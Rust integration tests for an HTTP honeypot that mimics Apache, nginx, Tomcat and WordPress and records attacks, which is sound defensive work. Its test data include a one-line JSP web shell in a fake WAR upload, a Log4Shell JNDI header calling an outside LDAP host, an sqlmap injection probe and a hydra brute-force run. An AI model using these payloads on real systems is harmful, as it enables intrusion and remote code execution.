//! The HTTP honeypot against the captured answers of the real products
//! (`testdata/http/`: Debian's Apache 2.4, nginx, Tomcat 10.1, WordPress 6.1 and
//! phpMyAdmin 5.2), and against real clients (curl, hydra, nmap). Each test runs a real
//! sensor on a loopback port with a pipeline collecting its events.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use hpti_core::event::{AuthMethod, Event, EventKind};
use hpti_core::pipeline::Pipeline;
use hpti_core::testing::MemorySink;
use hpti_sensors::honeypot::HoneypotConfig;
use hpti_sensors::http::{AppMount, HttpConfig, HttpSensor};
use hpti_sensors::shell::Persona;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

mod personas;

/// Only to avoid hanging forever: no test measures time.
const PATIENCE: Duration = Duration::from_secs(30);

pub(crate) struct Harness {
    pub(crate) addr: SocketAddr,
    pub(crate) events: MemorySink,
    _pipeline: Pipeline,
    dir: tempfile::TempDir,
}

impl Harness {
    pub(crate) async fn start(http: impl FnOnce(&mut HttpConfig)) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut persona = Persona::generate();
        persona.seed >>= 1;
        std::fs::write(
            dir.path().join("persona.toml"),
            toml::to_string_pretty(&persona).unwrap(),
        )
        .unwrap();
        let (mut pipeline, events) = hpti_core::testing::collecting_pipeline(dir.path());
        let mut honeypot = HoneypotConfig::default();
        honeypot.fetch.enabled = false;
        honeypot.limits.max_sessions_per_ip = 1000;
        let mut config = HttpConfig {
            listen: "127.0.0.1:0".parse().unwrap(),
            ..HttpConfig::default()
        };
        config.limits.requests_per_second = 100_000;
        http(&mut config);
        let sensor = HttpSensor::bind(
            "http-test",
            dir.path(),
            config,
            &honeypot,
            pipeline.metrics(),
        )
        .await
        .unwrap();
        let addr = sensor.local_addr();
        pipeline.spawn_source(
            &hpti_core::component::ComponentId::new("test-source").unwrap(),
            Arc::new(sensor),
        );
        Self {
            addr,
            events,
            _pipeline: pipeline,
            dir,
        }
    }

    pub(crate) async fn wait_for(&self, what: &str, done: impl Fn(&[Event]) -> bool) -> Vec<Event> {
        for _ in 0..1200 {
            let events = self.events.events_by_time();
            if done(&events) {
                return events;
            }
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
        panic!(
            "timed out waiting for {what}: {:#?}",
            self.events.events_by_time()
        );
    }

    pub(crate) fn data_dir(&self) -> &Path {
        self.dir.path()
    }
}

/// Sends `request` as is and reads everything the server answers until it closes or
/// stays silent for a moment.
pub(crate) async fn raw_exchange(addr: SocketAddr, request: &[u8]) -> Vec<u8> {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    stream.write_all(request).await.unwrap();
    let mut out = Vec::new();
    let mut buf = vec![0u8; 64 * 1024];
    loop {
        let wait = if out.is_empty() {
            Duration::from_secs(3)
        } else {
            Duration::from_millis(400)
        };
        match tokio::time::timeout(wait, stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) | Err(_) => break,
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
        }
    }
    out
}

/// A free loopback port with four digits, as the captures' 8181: error pages show the
/// port, and their `Content-Length` with it.
pub(crate) fn four_digit_port() -> SocketAddr {
    use std::sync::atomic::{AtomicU32, Ordering};
    // Each call of each test process takes its own candidates.
    static NEXT: AtomicU32 = AtomicU32::new(0);
    let start = std::process::id() % 1800;
    for _ in 0..1800 {
        let port = 8100 + (start + NEXT.fetch_add(1, Ordering::Relaxed)) % 1800;
        if let Ok(listener) = std::net::TcpListener::bind(("127.0.0.1", port as u16)) {
            return listener.local_addr().unwrap();
        }
    }
    panic!("no free port in 8100-9899");
}

pub(crate) fn testdata() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../testdata/http")
}

/// Replaces what legitimately differs between two runs of a server (dates, ETags built
/// from file times) and what `masks` name (per-request tokens), so that the rest must be
/// byte-identical.
pub(crate) fn normalise(bytes: &[u8], masks: &[(&str, &str)]) -> String {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let mut text = regex::Regex::new(r"(?m)^(Date|Last-Modified|Expires-Not): [^\r\n]*")
        .unwrap()
        .replace_all(&text, "$1: <date>")
        .into_owned();
    text = regex::Regex::new(r#"(?m)^ETag: (W/)?"[^"\r\n]*""#)
        .unwrap()
        .replace_all(&text, "ETag: $1\"<etag>\"")
        .into_owned();
    for (pattern, replacement) in masks {
        text = regex::Regex::new(pattern)
            .unwrap()
            .replace_all(&text, *replacement)
            .into_owned();
    }
    text
}

/// Replays every listed capture against the sensor and reports every difference.
pub(crate) async fn compare_captures(
    harness: &Harness,
    product: &str,
    cases: &[&str],
    masks: &[(&str, &str)],
) {
    let dir = testdata().join(product);
    let answers = futures::future::join_all(cases.iter().map(|case| {
        let request = std::fs::read(dir.join(format!("{case}.request")))
            .unwrap_or_else(|e| panic!("{product}/{case}.request: {e}"));
        raw_exchange(harness.addr, Box::leak(request.into_boxed_slice()))
    }))
    .await;
    let mut failures = Vec::new();
    for (case, got) in cases.iter().zip(answers) {
        let want = std::fs::read(dir.join(format!("{case}.http"))).unwrap();
        // The captures ran on port 8181; the sensor runs on a free port.
        let got = String::from_utf8_lossy(&got)
            .replace(
                &format!(" Port {}</address>", harness.addr.port()),
                " Port 8181</address>",
            )
            .replace(
                &format!("127.0.0.1:{}", harness.addr.port()),
                "127.0.0.1:8181",
            )
            .into_bytes();
        let (want, got) = (normalise(&want, masks), normalise(&got, masks));
        if want != got {
            let line = want
                .split_inclusive('\n')
                .zip(got.split_inclusive('\n'))
                .position(|(a, b)| a != b)
                .unwrap_or_else(|| want.lines().count().min(got.lines().count()));
            let show = |text: &str| {
                text.split_inclusive('\n')
                    .skip(line.saturating_sub(1))
                    .take(3)
                    .collect::<String>()
                    .escape_debug()
                    .to_string()
            };
            failures.push(format!(
                "{case}: differs at line {} (want {} bytes, got {}):\n  real:  {}\n  ours:  {}",
                line + 1,
                want.len(),
                got.len(),
                show(&want),
                show(&got)
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} {product} answers differ:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_apache_persona_answers_as_debians_apache() {
    let harness = Harness::start(|c| {
        c.app = "apache".into();
        c.listen = four_digit_port();
    })
    .await;
    compare_captures(
        &harness,
        "apache-2.4-debian",
        &[
            "get-root",
            "get-root-close",
            "head-root",
            "get-index-html",
            "get-nonexistent",
            "head-nonexistent",
            "get-favicon",
            "get-robots",
            "git-config",
            "env",
            "htaccess",
            "htpasswd",
            "server-info",
            "cgi-bin-dir",
            "cgi-bin-test",
            "icons-dir",
            "icons-small-dir",
            "icons-no-slash",
            "icons-readme",
            "options-star",
            "options-root",
            "post-root",
            "put-root",
            "delete-root",
            "connect",
            "trace-root",
            "track-root",
            "invalid-method",
            "lowercase-method",
            "http10-nohost",
            "http10-nohost-head",
            "http11-nohost",
            "malformed-request-line",
            "malformed-garbage",
            "malformed-extra-token",
            "bad-version-9",
            "bad-version-2",
            "binary-tls-hello",
            "header-10k",
            "header-200",
            "header-no-colon",
            "uri-10000",
            "traversal-raw",
            "traversal-encoded",
            "traversal-icons",
            "traversal-cgi-cve-2021-41773",
            "traversal-icons-cve-2021-41773",
            "traversal-double-encoded",
            "encoded-slash",
            "null-byte",
            "query-string-404",
            "absolute-uri",
            "keepalive-pair",
            "keepalive-pair-explicit",
            "get-root-keepalive",
            "keepalive-http10",
            "expect-100",
            "nmap-getrequest",
            "nmap-httpoptions",
            "nmap-rtsprequest",
            "nmap-fourohfour",
        ],
        &[],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_nginx_persona_answers_as_debians_nginx() {
    let harness = Harness::start(|c| {
        c.app = "nginx".into();
        c.listen = four_digit_port();
    })
    .await;
    let cases: Vec<String> = std::fs::read_to_string(testdata().join("nginx-debian/INDEX.tsv"))
        .unwrap()
        .lines()
        .skip(1)
        .filter_map(|l| l.split('\t').next().map(str::to_owned))
        .collect();
    let skip = [
        // Compression, ranges and conditional requests carry the capture's validators:
        // `static_files_answer_validators_ranges_and_gzip_as_apache_and_nginx` swaps
        // them for the sensor's. Not modelled: directory listings.
        "get-root-gzip",
        "range-0-10",
        "range-multi",
        "range-unsatisfiable",
        "if-modified-since",
        "if-none-match",
        "if-range-match",
        "dir-no-slash",
        "dir-no-slash-query",
        "dir-no-slash-http10",
        "dir-with-slash",
        "dir-with-slash-noindex",
        "nmap-genericlines",
    ];
    let cases: Vec<&str> = cases
        .iter()
        .map(String::as_str)
        .filter(|c| !skip.contains(c))
        .collect();
    compare_captures(&harness, "nginx-debian", &cases, &[]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_tomcat_persona_answers_as_debians_tomcat() {
    let harness = Harness::start(|c| {
        c.app = "tomcat".into();
        c.listen = four_digit_port();
    })
    .await;
    let cases: Vec<String> = std::fs::read_to_string(testdata().join("tomcat10-debian/INDEX.tsv"))
        .unwrap()
        .lines()
        .skip(1)
        .filter_map(|l| l.split('\t').next().map(str::to_owned))
        .collect();
    let skip = [
        // Conditional requests carry the capture's validators: tested below with the
        // sensor's. Not modelled: the Java stack traces of oversized heads.
        "if-modified-since",
        "if-none-match",
        "if-range-match",
        "header-10k",
        "uri-10000",
    ];
    let cases: Vec<&str> = cases
        .iter()
        .map(String::as_str)
        .filter(|c| !skip.contains(c))
        .collect();
    compare_captures(&harness, "tomcat10-debian", &cases, &[]).await;
    // 304 with Tomcat's two headers; a weak ETag in If-Range does not allow a range.
    let dir = testdata().join("tomcat10-debian");
    let captured_page = std::fs::read(dir.join("get-root.http")).unwrap();
    let ours_page = raw_exchange(
        harness.addr,
        b"GET / HTTP/1.1\r\nHost: localhost:8181\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    )
    .await;
    for case in ["if-modified-since", "if-none-match", "if-range-match"] {
        let mut request =
            String::from_utf8(std::fs::read(dir.join(format!("{case}.request"))).unwrap()).unwrap();
        for name in ["ETag", "Last-Modified"] {
            let theirs = header_value(&captured_page, name).unwrap();
            let ours = header_value(&ours_page, name).unwrap();
            request = request.replace(&theirs, &ours);
        }
        let got = raw_exchange(harness.addr, request.as_bytes()).await;
        let want = std::fs::read(dir.join(format!("{case}.http"))).unwrap();
        assert_eq!(
            normalise(&got, &[]),
            normalise(&want, &[]),
            "tomcat10-debian/{case}"
        );
    }
}

async fn run_client(mut command: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap()
}

fn tool_missing(tool: &str) {
    assert!(
        std::env::var("HPTI_REQUIRE_SERVICES").as_deref() != Ok("1"),
        "{tool} is required (HPTI_REQUIRE_SERVICES=1)"
    );
    eprintln!("SKIPPED: {tool} is not installed");
}

fn installed(tool: &str) -> bool {
    std::process::Command::new(tool)
        .arg("--version")
        .output()
        .is_ok()
}

fn logins(events: &[Event]) -> Vec<(String, Option<String>, AuthMethod)> {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::LoginAttempt {
                username,
                password,
                method,
                success,
                ..
            } => {
                assert!(!success, "web logins are refused");
                Some((username.clone(), password.clone(), *method))
            }
            _ => None,
        })
        .collect()
}

fn requests(events: &[Event]) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| matches!(e.kind, EventKind::HttpRequest { .. }))
        .collect()
}

/// curl with Basic credentials against the router persona: the 401 it expects, the
/// attempt recorded once, with the request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_basic_auth_is_captured_and_refused() {
    let harness = Harness::start(|c| c.app = "router".into()).await;
    let url = format!("http://{}/userRpm/LoginRpm.htm", harness.addr);
    let output = {
        let mut curl = std::process::Command::new("curl");
        curl.args(["-s", "-i", "-u", "admin:tp-l1nk!", &url]);
        run_client(curl).await
    };
    let answer = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        answer.starts_with("HTTP/1.1 401 Unauthorized\r\n"),
        "{answer}"
    );
    assert!(
        answer.contains("WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n"),
        "{answer}"
    );
    assert!(answer.contains("Server: Router Webserver\r\n"), "{answer}");
    let events = harness
        .wait_for("the login and the request", |e| {
            logins(e).len() == 1 && requests(e).len() == 1
        })
        .await;
    assert_eq!(
        logins(&events),
        vec![(
            "admin".into(),
            Some("tp-l1nk!".into()),
            AuthMethod::Password
        )]
    );
    let EventKind::HttpRequest {
        method,
        uri,
        status,
        detail,
        user_agent,
        ..
    } = &requests(&events)[0].kind
    else {
        unreachable!()
    };
    assert_eq!(
        (method.as_str(), uri.as_str(), *status),
        ("GET", "/userRpm/LoginRpm.htm", Some(401))
    );
    assert!(user_agent.as_deref().unwrap().starts_with("curl/"));
    let detail = detail.as_ref().unwrap();
    assert_eq!(detail.app.as_deref(), Some("router"));
    assert!(
        detail
            .headers
            .iter()
            .any(|(n, v)| n == "Authorization" && v.starts_with("Basic "))
    );
    assert_eq!(detail.response_size, Some(answer.len() as u64));
}

/// A WAR pushed to Tomcat's manager with curl's multipart upload: the 401, the
/// credentials, and the file stored by SHA-256 (never on the real filesystem but the
/// artifact store).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_multipart_upload_goes_to_the_artifact_store() {
    let harness = Harness::start(|c| c.app = "tomcat".into()).await;
    let work = tempfile::tempdir().unwrap();
    let war = work.path().join("shell.war");
    let content = b"PK\x03\x04 not really a war, but a payload <% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>";
    std::fs::write(&war, content).unwrap();
    let url = format!("http://{}/manager/html/upload", harness.addr);
    let output = {
        let mut curl = std::process::Command::new("curl");
        curl.args([
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-u",
            "tomcat:s3cret",
        ])
        .arg("-F")
        .arg(format!("deployWar=@{}", war.display()))
        .arg(&url);
        run_client(curl).await
    };
    assert_eq!(String::from_utf8_lossy(&output.stdout), "401");
    let events = harness
        .wait_for("the upload", |e| {
            e.iter()
                .any(|e| matches!(e.kind, EventKind::FileUpload { .. }))
        })
        .await;
    let sha256 = events
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::FileUpload {
                filename,
                sha256: Some(sha256),
                size,
            } => {
                assert_eq!(filename, "shell.war");
                assert_eq!(*size, Some(content.len() as u64));
                Some(sha256.clone())
            }
            _ => None,
        })
        .unwrap();
    let stored = std::fs::read(
        harness
            .data_dir()
            .join("artifacts")
            .join(&sha256[..2])
            .join(&sha256),
    )
    .or_else(|_| std::fs::read(harness.data_dir().join("artifacts").join(&sha256)))
    .expect("the upload is in the artifact store");
    assert_eq!(stored, content);
    assert_eq!(
        logins(&events),
        vec![("tomcat".into(), Some("s3cret".into()), AuthMethod::Password)]
    );
}

/// THC-Hydra's `http-post-form` against the WordPress login: hydra finds no password
/// (every one is refused with WordPress's error), and every attempt is recorded once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hydra_http_post_form_on_wordpress_records_each_attempt_once() {
    // hydra has no --version (`-h` exits 255): whether it runs at all is the probe.
    if std::process::Command::new("hydra")
        .arg("-h")
        .output()
        .is_err()
    {
        return tool_missing("hydra");
    }
    let harness = Harness::start(|c| c.app = "wordpress".into()).await;
    let work = tempfile::tempdir().unwrap();
    let passwords: Vec<String> = (0..40).map(|i| format!("pass{i:02}!")).collect();
    std::fs::write(work.path().join("pw.txt"), passwords.join("\n") + "\n").unwrap();
    let output = {
        let mut hydra = std::process::Command::new("hydra");
        hydra
            .args(["-l", "admin", "-P"])
            .arg(work.path().join("pw.txt"))
            .args([
                "-t",
                "4",
                "-I",
                "-s",
                &harness.addr.port().to_string(),
                "127.0.0.1",
            ])
            .args([
                "http-post-form",
                "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=is incorrect",
            ]);
        run_client(hydra).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        stdout.contains("0 valid password"),
        "hydra saw the login fail every time:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let events = harness
        .wait_for("40 login attempts", |e| logins(e).len() >= passwords.len())
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let events = if logins(&events).len() == passwords.len() {
        harness.events.events_by_time()
    } else {
        events
    };
    let mut tried: Vec<String> = logins(&events)
        .into_iter()
        .map(|(user, pass, _)| {
            assert_eq!(user, "admin");
            pass.unwrap()
        })
        .collect();
    tried.sort();
    assert_eq!(tried, passwords, "each password exactly once");
}

/// `nmap -sV -sC` names the Apache persona as it named Debian's Apache
/// (`testdata/http/nmap-apache.txt`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_names_the_apache_persona_as_debians_apache() {
    if !installed("nmap") {
        return tool_missing("nmap");
    }
    let harness = Harness::start(|c| c.app = "apache".into()).await;
    let port = harness.addr.port().to_string();
    let output = {
        let mut nmap = std::process::Command::new("nmap");
        nmap.args(["-sV", "-sC", "-Pn", "-n", "-p", &port, "127.0.0.1"]);
        run_client(nmap).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let real = std::fs::read_to_string(testdata().join("nmap-apache.txt")).unwrap();
    for expected in [
        "/tcp open  http    Apache httpd 2.4.71 ((Debian))",
        "|_http-title: Apache2 Debian Default Page: It works",
        "|_http-server-header: Apache/2.4.71 (Debian)",
    ] {
        assert!(
            stdout.contains(expected),
            "{expected:?} in nmap's output:\n{stdout}"
        );
        assert!(
            real.contains(expected),
            "{expected:?} as against the real Apache"
        );
    }
}

/// Three requests in one write (HTTP/1.1 pipelining): three answers, in order.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pipelined_requests_are_answered_in_order() {
    let harness = Harness::start(|c| c.app = "apache".into()).await;
    let request = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n\
                    GET /b HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let answer = String::from_utf8_lossy(&raw_exchange(harness.addr, request).await).into_owned();
    let statuses: Vec<&str> = answer
        .match_indices("HTTP/1.1 ")
        .map(|(i, _)| &answer[i + 9..i + 12])
        .collect();
    assert_eq!(statuses, vec!["404", "200", "404"], "{answer}");
    let events = harness
        .wait_for("three requests", |e| requests(e).len() == 3)
        .await;
    let uris: Vec<_> = requests(&events)
        .iter()
        .map(|e| match &e.kind {
            EventKind::HttpRequest { uri, .. } => uri.clone(),
            _ => unreachable!(),
        })
        .collect();
    assert_eq!(uris, vec!["/a", "/", "/b"]);
}

/// A client that sends its head slower than `header_timeout` (slowloris) is closed,
/// counted, and costs nothing more.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_heads_are_cut_off() {
    let harness = Harness::start(|c| {
        c.limits.header_timeout = Duration::from_millis(500);
    })
    .await;
    let mut stream = TcpStream::connect(harness.addr).await.unwrap();
    stream
        .write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ")
        .await
        .unwrap();
    let started = std::time::Instant::now();
    let mut buf = [0u8; 64];
    // Bytes trickle in; the sensor closes at its deadline anyway.
    let closed = loop {
        let _ = stream.write_all(b"b").await;
        match tokio::time::timeout(Duration::from_millis(100), stream.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => break true,
            Ok(Ok(_)) => {}
            Err(_) => {}
        }
        if started.elapsed() > PATIENCE {
            break false;
        }
    };
    assert!(closed, "the connection was closed");
    assert!(started.elapsed() < Duration::from_secs(5));
}

/// A body over `max_body_bytes` gets the server's 413 and a close, before the body is
/// read.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_bodies_are_refused() {
    let harness = Harness::start(|c| {
        c.app = "wordpress".into();
        c.limits.max_body_bytes = 1024;
    })
    .await;
    let request = b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nlog=a";
    let answer = String::from_utf8_lossy(&raw_exchange(harness.addr, request).await).into_owned();
    assert!(
        answer.starts_with("HTTP/1.1 413 Request Entity Too Large\r\n"),
        "{answer}"
    );
    assert!(answer.contains("Connection: close\r\n"), "{answer}");
}

fn labels_of(event: &Event) -> Vec<String> {
    match &event.kind {
        EventKind::HttpRequest { labels, .. } => labels.clone(),
        _ => Vec::new(),
    }
}

/// An sqlmap probe and a Log4Shell header: each request's event carries the labels of
/// what it attempts, and the plain request none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_labelled_in_the_event() {
    let harness = Harness::start(|c| c.app = "apache".into()).await;
    let sqlmap = b"GET /index.php?id=1%27%20AND%203617%3D3617%20AND%20%27xYzA%27%3D%27xYzA HTTP/1.1\r\n\
                   Host: x\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nConnection: close\r\n\r\n";
    let log4shell =
        b"GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://203.0.113.5:1389/Exploit}\r\n\
                      User-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
    let plain =
        b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) \
                  Gecko/20100101 Firefox/128.0\r\nConnection: close\r\n\r\n";
    for request in [&sqlmap[..], &log4shell[..], &plain[..]] {
        raw_exchange(harness.addr, request).await;
    }
    let events = harness
        .wait_for("three requests", |e| requests(e).len() == 3)
        .await;
    let by_uri = |prefix: &str, agent: &str| {
        requests(&events)
            .into_iter()
            .find(|e| match &e.kind {
                EventKind::HttpRequest {
                    uri, user_agent, ..
                } => {
                    uri.starts_with(prefix)
                        && user_agent.as_deref().unwrap_or("").starts_with(agent)
                }
                _ => false,
            })
            .map(labels_of)
            .unwrap()
    };
    let sqli = by_uri("/index.php", "sqlmap");
    assert!(
        sqli.contains(&"sqli".into()) && sqli.contains(&"scanner:sqlmap".into()),
        "{sqli:?}"
    );
    let jndi = requests(&events)
        .into_iter()
        .find(|e| match &e.kind {
            EventKind::HttpRequest { detail, .. } => detail
                .as_ref()
                .is_some_and(|d| d.headers.iter().any(|(n, _)| n == "X-Api-Version")),
            _ => false,
        })
        .map(labels_of)
        .unwrap();
    assert_eq!(jndi, vec!["log4shell".to_owned()]);
    let _ = by_uri("/", "Mozilla/5.0 (X11");
    assert!(by_uri("/", "Mozilla/5.0 (X11").is_empty());
}

/// HTTPS with the generated certificate: curl (with SNI) gets the page; the request's
/// event carries the server name and the JA4 fingerprint, which a `client.fingerprint`
/// event also records; the certificate names the persona's host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn https_captures_sni_and_ja4() {
    let harness = Harness::start(|c| {
        c.app = "apache".into();
        c.tls = Some(hpti_sensors::http::tls::TlsConfig::default());
    })
    .await;
    let port = harness.addr.port();
    let output = {
        let mut curl = std::process::Command::new("curl");
        curl.args(["-sk", "-v", "--resolve"])
            .arg(format!("www.example.com:{port}:127.0.0.1"))
            .arg(format!("https://www.example.com:{port}/"));
        run_client(curl).await
    };
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        stdout.contains("<title>Apache2 Debian Default Page: It works</title>"),
        "{stderr}"
    );
    let persona: toml::Value =
        toml::from_str(&std::fs::read_to_string(harness.data_dir().join("persona.toml")).unwrap())
            .unwrap();
    let hostname = persona["hostname"].as_str().unwrap();
    assert!(
        stderr.contains(&format!("subject: CN={hostname}")),
        "{stderr}"
    );
    let events = harness
        .wait_for("the request", |e| requests(e).len() == 1)
        .await;
    let EventKind::HttpRequest { detail, .. } = &requests(&events)[0].kind else {
        unreachable!()
    };
    let detail = detail.as_ref().unwrap();
    assert_eq!(detail.tls_sni.as_deref(), Some("www.example.com"));
    let ja4 = detail.ja4.clone().unwrap();
    // t, TLS 1.3, a domain name, then cipher and extension counts and the ALPN (curl
    // offers h2 first).
    let shape = regex::Regex::new(r"^t13d[0-9]{4}h2_[0-9a-f]{12}_[0-9a-f]{12}$").unwrap();
    assert!(shape.is_match(&ja4), "{ja4}");
    assert!(events.iter().any(|e| matches!(
        &e.kind,
        EventKind::ClientFingerprint { method, fingerprint, .. } if method == "ja4" && *fingerprint == ja4
    )));
    // The certificate is kept for the next start.
    assert!(harness.data_dir().join("tls/http-test.crt").is_file());
}

/// The value of `name` in an HTTP response head.
fn header_value(response: &[u8], name: &str) -> Option<String> {
    let text = String::from_utf8_lossy(response);
    let head = text.split("\r\n\r\n").next()?.to_owned();
    head.lines().find_map(|l| {
        let (n, v) = l.split_once(':')?;
        n.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
    })
}

/// A response's head and its body with chunked framing removed.
fn split_response(response: &[u8]) -> (String, Vec<u8>) {
    let at = response
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("a response head");
    let head = String::from_utf8_lossy(&response[..at]).into_owned();
    let mut body = response[at + 4..].to_vec();
    if head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked")
    {
        let mut plain = Vec::new();
        let mut rest = &body[..];
        loop {
            let line_end = rest.windows(2).position(|w| w == b"\r\n").unwrap();
            let size =
                usize::from_str_radix(std::str::from_utf8(&rest[..line_end]).unwrap(), 16).unwrap();
            rest = &rest[line_end + 2..];
            if size == 0 {
                break;
            }
            plain.extend_from_slice(&rest[..size]);
            rest = &rest[size + 2..];
        }
        body = plain;
    }
    (head, body)
}

/// Compares a gzip answer with a capture's: the head with `Content-Length`'s value
/// aside (zlib's bytes are not reproduced bit for bit), the gzip header, and the
/// decompressed body, both normalised with `masks`.
pub(crate) async fn compare_gzip_capture(
    harness: &Harness,
    product: &str,
    case: &str,
    masks: &[(&str, &str)],
) {
    let dir = testdata().join(product);
    let request = std::fs::read(dir.join(format!("{case}.request"))).unwrap();
    let got = raw_exchange(harness.addr, &request).await;
    let want = std::fs::read(dir.join(format!("{case}.http"))).unwrap();
    let (got_head, got_body) = split_response(&got);
    let (want_head, want_body) = split_response(&want);
    let head = |text: &str| {
        let lengthless = regex::Regex::new(r"(?m)^Content-Length: [0-9]+")
            .unwrap()
            .replace_all(text, "Content-Length: <n>")
            .into_owned();
        normalise(lengthless.as_bytes(), masks)
    };
    assert_eq!(
        head(&got_head),
        head(&want_head),
        "{product}/{case}: the head"
    );
    assert_eq!(
        got_body[..10],
        want_body[..10],
        "{product}/{case}: the gzip header"
    );
    let inflate = |bytes: &[u8]| {
        let mut out = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(bytes), &mut out).unwrap();
        out
    };
    let got_page = String::from_utf8_lossy(&inflate(&got_body))
        .replace(
            &format!("127.0.0.1:{}", harness.addr.port()),
            "127.0.0.1:8181",
        )
        .into_bytes();
    assert_eq!(
        normalise(&got_page, masks),
        normalise(&inflate(&want_body), masks),
        "{product}/{case}: the page, decompressed"
    );
}

/// Conditional requests, byte ranges and gzip on a static file, as Debian's Apache and
/// nginx answer them (`if-modified-since`, `if-none-match`, `if-range-match`,
/// `range-0-10`, `range-unsatisfiable`, `get-root-gzip` of both captures). The
/// captures' validators are swapped for the sensor's (its file dates are per install);
/// gzip is compared by its headers and the decompressed body (the compressed bytes
/// are zlib's, not reproduced bit for bit).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn static_files_answer_validators_ranges_and_gzip_as_apache_and_nginx() {
    for (app, product) in [("apache", "apache-2.4-debian"), ("nginx", "nginx-debian")] {
        let harness = Harness::start(|c| {
            c.app = app.into();
            c.listen = four_digit_port();
        })
        .await;
        let dir = testdata().join(product);
        let captured_root = std::fs::read(dir.join("get-root.http")).unwrap();
        let ours_root = raw_exchange(harness.addr, b"GET / HTTP/1.1\r\nHost: localhost:8181\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n").await;
        let swap = |request: &[u8]| -> Vec<u8> {
            let mut text = String::from_utf8_lossy(request).into_owned();
            for name in ["ETag", "Last-Modified"] {
                let theirs = header_value(&captured_root, name).unwrap();
                let ours = header_value(&ours_root, name).unwrap();
                text = text.replace(&theirs, &ours);
            }
            text.into_bytes()
        };
        let cases = [
            "if-modified-since",
            "if-none-match",
            "if-range-match",
            "range-0-10",
            "range-multi",
            "range-unsatisfiable",
        ];
        // The multipart boundary: random on Apache, a counter on nginx.
        let boundary = [(r"[0-9]{20}|[0-9a-f]{16}", "<boundary>")];
        for case in cases {
            let request = swap(&std::fs::read(dir.join(format!("{case}.request"))).unwrap());
            let got = raw_exchange(harness.addr, &request).await;
            let got = String::from_utf8_lossy(&got)
                .replace(
                    &format!(" Port {}</address>", harness.addr.port()),
                    " Port 8181</address>",
                )
                .into_bytes();
            let want = std::fs::read(dir.join(format!("{case}.http"))).unwrap();
            assert_eq!(
                normalise(&got, &boundary),
                normalise(&want, &boundary),
                "{product}/{case}"
            );
        }
        // gzip: the same headers in the same order (Content-Length aside), and the page.
        let request = std::fs::read(dir.join("get-root-gzip.request")).unwrap();
        let got = raw_exchange(harness.addr, &request).await;
        let want = std::fs::read(dir.join("get-root-gzip.http")).unwrap();
        let (got_head, got_body) = split_response(&got);
        let (want_head, want_body) = split_response(&want);
        let names = |head: &str| -> Vec<String> {
            head.lines()
                .map(|l| match l.split_once(':') {
                    Some(("Content-Length", _)) => "Content-Length: <n>".to_owned(),
                    Some((n, _)) if n == "Date" || n == "Last-Modified" || n == "ETag" => {
                        n.to_owned()
                    }
                    _ => l.to_owned(),
                })
                .collect()
        };
        assert_eq!(
            names(&got_head),
            names(&want_head),
            "{product}/get-root-gzip head"
        );
